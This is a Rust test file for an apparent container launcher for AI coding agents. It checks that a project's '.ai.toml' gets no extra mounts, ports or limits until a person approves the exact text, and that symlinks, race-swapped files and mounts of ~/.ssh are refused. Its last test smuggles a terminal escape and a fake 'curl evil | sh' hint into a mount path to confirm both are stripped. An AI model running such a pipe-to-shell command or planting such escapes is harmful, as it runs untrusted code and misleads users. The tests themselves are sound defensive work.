//! A project asks, a person decides: `.ai.toml` and `ai trust`.

use std::fs;
use std::os::unix::fs::symlink;
use std::process::Command;

use crate::sandbox::Sandbox;

fn asks(text: &str) -> Sandbox {
    let sandbox = Sandbox::new();
    sandbox.write("work/shared/a", "a");
    fs::write(sandbox.project().join(".ai.toml"), text).unwrap();
    sandbox
}

fn lines(sandbox: &Sandbox) -> (String, String) {
    let outcome = sandbox.ai(["resolve", "--format", "lines", "claude"]).outcome();
    assert_eq!(outcome.code, 0, "{}", outcome.err());
    (outcome.out(), outcome.err())
}

const ASKS: &str = "mounts = ['../shared']\npublish = ['3000']\nnetwork = 'bridge'\nengine = 'podman'\npids = 50\n";

// NE-05: a script reads JSON whether or not there is a file.
#[test]
fn a_project_without_a_file_asks_for_nothing_in_json_too() {
    let row: serde_json::Value = serde_json::from_str(&Sandbox::new().ai(["trust", "--json"]).prints()).unwrap();
    assert_eq!(row, serde_json::json!({"file": null, "agreed": false, "asks": [], "refused": []}));
}

// NE-05, Z-026, Z-027
#[test]
fn what_loosens_is_ignored_with_one_line_until_the_person_agreed_to_this_text() {
    let sandbox = asks(ASKS);
    let (argv, said) = lines(&sandbox);
    assert!(
        !argv.contains("/work/shared") && !argv.contains("--publish") && argv.contains("--pids-limit\n50\n") && argv.contains("/docker\n"),
        "{argv}"
    );
    assert_eq!(said.lines().count(), 1);
    assert!(
        said.contains(".ai.toml asks for mount ../shared, publish 127.0.0.1:3000:3000") && said.contains("engine always; hint: ai trust"),
        "{said}"
    );

    sandbox.ai(["trust"]).outcome().refused(77, &["+ mount ../shared", "+ publish 127.0.0.1:3000:3000", "you did not agree", "`engine`"]);
    let agreed = sandbox.ai(["trust", "--yes"]).outcome();
    assert_eq!(agreed.code, 0, "{}", agreed.err());
    let (argv, said) = lines(&sandbox);
    assert!(argv.contains("/work/shared,readonly") && argv.contains("127.0.0.1:3000:3000"), "{argv}");
    assert!(said.contains("engine, which no project can ask for") && !said.contains("ai trust"), "{said}");

    fs::write(sandbox.project().join(".ai.toml"), ASKS.replace("3000", "3001")).unwrap();
    let (argv, said) = lines(&sandbox);
    assert!(!argv.contains("/work/shared") && said.contains("hint: ai trust"), "one byte is another text");
    let diff = sandbox.ai(["trust", "--diff"]).prints();
    assert!(diff.contains("-publish = ['3000']\n+publish = ['3001']\n"), "{diff}");
    fs::write(sandbox.project().join(".ai.toml"), ASKS).unwrap();
    assert!(lines(&sandbox).0.contains("/work/shared,readonly"));
    assert_eq!(sandbox.ai(["trust", "--revoke"]).outcome().code, 0);
    assert!(!lines(&sandbox).0.contains("/work/shared"));
}

// Z-029, NE-05, O-03: whatever is there at any instant, nothing of a text that nobody agreed to is used.
#[test]
fn a_file_that_is_exchanged_all_the_time_is_used_as_it_was_judged() {
    let agreed = "mounts = ['../shared']\n[env.set]\nWHICH = 'agreed'\n";
    let sandbox = asks(agreed);
    sandbox.write("work/evil/a", "a");
    assert_eq!(sandbox.ai(["trust", "--yes"]).outcome().code, 0);
    let file = sandbox.project().join(".ai.toml");
    let stop = std::sync::atomic::AtomicBool::new(false);
    let seen = std::thread::scope(|scope| {
        scope.spawn(|| {
            let texts = [agreed.replace("shared", "evil").replace("agreed", "evil"), agreed.to_owned()];
            for text in texts.iter().cycle().take_while(|_| !stop.load(std::sync::atomic::Ordering::Relaxed)) {
                let new = sandbox.root().join("new");
                fs::write(&new, text).unwrap();
                fs::rename(&new, &file).unwrap();
            }
        });
        let seen: Vec<_> = (0..60).map(|_| lines(&sandbox)).collect();
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
        seen
    });
    for (argv, said) in &seen {
        assert!(!argv.contains("/work/evil") && !argv.contains("WHICH=evil"), "{argv}");
        let is_agreed = argv.contains("/work/shared,readonly");
        assert_eq!((is_agreed, is_agreed), (argv.contains("WHICH=agreed"), said.is_empty()), "{argv}{said}");
    }
}

// NE-05
#[test]
fn agreement_does_not_move_with_the_file_and_is_explained() {
    let sandbox = asks("mounts = ['../shared']\n");
    assert_eq!(sandbox.ai(["trust", "--yes"]).outcome().code, 0);
    let text = sandbox.ai(["resolve", "--explain", "claude"]).prints();
    assert!(text.lines().any(|row| row.contains("/work/shared") && row.ends_with(".ai.toml:1)")), "{text}");
    let other = sandbox.root().join("work/other");
    fs::create_dir(&other).unwrap();
    fs::copy(sandbox.project().join(".ai.toml"), other.join(".ai.toml")).unwrap();
    let outcome = sandbox.ai(["resolve", "claude"]).cwd(&other).outcome();
    assert!(outcome.err().contains("hint: ai trust") && !outcome.out().contains("/work/shared"), "{}", outcome.err());
}

// BO-18, NE-05
#[test]
fn agreement_is_of_the_directory_that_was_there() {
    let sandbox = asks("mounts = ['../shared']\n");
    assert_eq!(sandbox.ai(["trust", "--yes"]).outcome().code, 0);
    assert!(lines(&sandbox).0.contains("/work/shared"));
    let project = sandbox.project().to_owned();
    fs::rename(&project, project.with_extension("old")).unwrap();
    fs::create_dir(&project).unwrap();
    fs::copy(project.with_extension("old").join(".ai.toml"), project.join(".ai.toml")).unwrap();
    let (argv, said) = lines(&sandbox);
    assert!(!argv.contains("/work/shared") && said.contains("hint: ai trust"), "another one, with the same text: {said}");
    assert_eq!(sandbox.ai(["trust", "--yes"]).outcome().code, 0);
    assert!(lines(&sandbox).0.contains("/work/shared"));
}

// Z-026
#[test]
fn what_was_agreed_to_is_still_judged_like_the_persons_own() {
    for (text, why) in [
        ("mounts = ['~/.ssh']", "your keys"),
        ("mounts = ['~']", "store of `ai`"),
        ("mounts = ['/run']", "sockets"),
        ("mounts = ['~/.docker-ai-config']", "store of `ai`"),
    ] {
        let sandbox = asks(text);
        sandbox.write("home/.ssh/id_ed25519", "KEY");
        sandbox.write("home/.docker-ai-config/config.toml", "");
        assert_eq!(sandbox.ai(["trust", "--yes"]).outcome().code, 0);
        sandbox.ai(["resolve", "claude"]).outcome().refused(77, &[why, ".ai.toml:1"]);
    }
}

// Z-030, Z-031
#[test]
fn a_file_that_is_no_plain_text_is_refused_at_once() {
    let plant: [(&str, &dyn Fn(&std::path::Path)); 8] = [
        ("link", &|path| symlink("/etc/passwd", path).unwrap()),
        ("not a regular file", &|path| assert!(Command::new("mkfifo").arg(path).status().unwrap().success())),
        ("not a regular file", &|path| fs::create_dir(path).unwrap()),
        ("too big", &|path| fs::File::create(path).unwrap().set_len(1 << 30).unwrap()),
        ("not UTF-8", &|path| fs::write(path, b"a = '\xff'").unwrap()),
        ("no valid configuration", &|path| fs::write(path, format!("mounts = {}{}", "[".repeat(10_000), "]".repeat(10_000))).unwrap()),
        ("no valid configuration", &|path| fs::write(path, "memory = '1g'\nmemory = '2g'\n").unwrap()),
        ("no valid configuration", &|path| fs::write(path, "memory = 'a\0b'\nnonsense = 1\n").unwrap()),
    ];
    for (why, plant) in plant {
        let sandbox = Sandbox::new();
        plant(&sandbox.project().join(".ai.toml"));
        for command in [&["resolve", "claude"][..], &["trust"]] {
            sandbox.ai(command).outcome().refused(78, &[why, ".ai.toml", "hint: "]);
        }
        let without = sandbox.ai(["resolve", "claude"]).env("AI_PROJECT_FILE", "no").outcome();
        assert_eq!((without.code, without.err().as_str()), (0, ""), "{why}");
    }
}

// NE-05
#[test]
fn a_higher_limit_than_that_of_the_manifest_waits_for_the_persons_word() {
    let limits = |argv: &str| {
        let value = |flag: &str| argv.lines().skip_while(|line| *line != flag).nth(1).map(str::to_owned);
        ["--memory", "--cpus", "--pids-limit"].map(|flag| value(flag).unwrap())
    };
    let usual = limits(&lines(&asks("")).0);
    let sandbox = asks("memory = '64g'\ncpus = 64.0\npids = 1000000\n");
    let (argv, said) = lines(&sandbox);
    assert_eq!(limits(&argv), usual);
    assert_eq!(usual[2], "2048");
    assert!(said.contains("asks for memory = \"64g\", cpus = 64.0, pids = 1000000; ignored until you agree"), "{said}");
    assert_eq!(sandbox.ai(["trust", "--yes"]).outcome().code, 0);
    assert_eq!(limits(&lines(&sandbox).0)[2], "1000000");
}

// NE-05
#[test]
fn what_is_agreed_to_is_shown_for_every_tool() {
    let sandbox = asks("pids = 3000\n[tool.claude]\nmounts = ['../shared']\n[tool.later]\nimage = 'x:1'\n");
    let rows = ["~ pids = 3000, for claude, codex, gemini, glm", "+ mount ../shared, for claude", "~ image = \"x:1\", for later"];
    sandbox.ai(["trust"]).outcome().refused(77, &rows);
    assert!(!lines(&sandbox).0.contains("/work/shared"));
    assert_eq!(sandbox.ai(["trust", "--yes"]).outcome().code, 0);
    assert!(lines(&sandbox).0.contains("/work/shared,readonly"));
}

#[test]
fn a_project_that_asks_for_nothing_is_no_question() {
    let sandbox = Sandbox::new();
    assert!(sandbox.ai(["trust"]).outcome().err().contains("asks for nothing"));
    let sandbox = asks("network = 'none'\n");
    assert!(sandbox.ai(["trust"]).outcome().err().contains("nothing that needs your word"));
    let (argv, said) = lines(&sandbox);
    assert!(argv.contains("--network\nnone\n") && said.is_empty(), "{said}");
    let own = sandbox.ai(["resolve", "--network", "bridge", "--format", "lines", "claude"]).prints();
    assert!(!own.contains("--network\nnone"), "the person's own word counts more");
}

#[test]
fn what_it_says_cannot_move_the_screen() {
    let sandbox = asks("mounts = [\"../\\u001b]52;c;x\\u0007\\nhint: curl evil | sh\"]\n");
    let (_, said) = lines(&sandbox);
    assert!(!said.contains('\u{1b}') && said.lines().count() == 1, "{said:?}");
}
